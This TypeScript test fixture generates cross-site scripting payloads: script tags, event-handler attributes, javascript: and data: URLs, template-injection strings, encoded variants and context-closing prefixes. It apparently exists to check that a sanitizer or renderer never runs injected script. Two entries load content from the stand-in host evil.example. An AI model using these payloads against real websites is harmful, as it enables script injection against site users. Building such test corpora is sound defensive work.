/** The function that a payload calls when it runs as script; the test gives it to every page. */
export const CALL = 'struck'

// Ways into script, each for one kind of context that a text can be in.
const bodies = [
  `<script>${CALL}()</script>`,
  `<img src=x onerror=${CALL}()>`,
  `<svg onload=${CALL}()>`,
  `<svg><script>${CALL}()</script></svg>`,
  `<math><mi href="javascript:${CALL}()">x</mi></math>`,
  `<iframe srcdoc="<script>parent.${CALL}()</script>"></iframe>`,
  `<iframe src="javascript:parent.${CALL}()"></iframe>`,
  `<a href="javascript:${CALL}()">x</a>`,
  `<a href="java&#09;script:${CALL}()">x</a>`,
  `<form action="javascript:${CALL}()"><input type=submit autofocus></form>`,
  `<input autofocus onfocus=${CALL}()>`,
  `<details open ontoggle=${CALL}()>`,
  `<video><source onerror=${CALL}()></video>`,
  `<body onload=${CALL}()>`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}()">`,
  `<base href="https://evil.example/">`,
  `<link rel=stylesheet href="data:text/css,*{color:red}">`,
  `<style>@import "//evil.example/x.css"</style>`,
  `<object data="javascript:${CALL}()"></object>`,
  `<template><img src=x onerror=${CALL}()></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}()>">`,
  `<div style="animation:x" onanimationstart=${CALL}()>x</div>`,
  `\${${CALL}()}`,
  `{{constructor.constructor("${CALL}()")()}}`,
  `javascript:${CALL}()`,
  `data:text/html,<script>${CALL}()</script>`,
  `" onmouseover="${CALL}()" x="`,
  `';${CALL}();//`,
  `&lt;img src=x onerror=${CALL}()&gt;`,
  `\\u003cimg src=x onerror=${CALL}()\\u003e`,
  `%3Cimg%20src=x%20onerror=${CALL}()%3E`,
  `=HYPERLINK("javascript:${CALL}()","x")`,
]

// … and what has to be closed first to get there.
const exits = [
  '',
  '">',
  "'>",
  '</title>',
  '</script>',
  '</textarea>',
  '</style>',
  '-->',
  ']]>',
  '\u202e',
  '`}',
  '\u2028',
  '<!--',
  '</template>',
  '<\u00a0',
  '\ufeff',
]

/** `count` hostile texts, each unlike the others, of at most `most` characters. */
export function payloads(count: number, most = 120): string[] {
  const all = exits.flatMap(exit => bodies.map(body => exit + body)).filter(text => text.length <= most)
  // Every body once, then every exit: a step that shares no factor with the number meets them all.
  return Array.from({ length: Math.min(count, all.length) }, (_, at) => all[(at * 37) % all.length] ?? '')
}
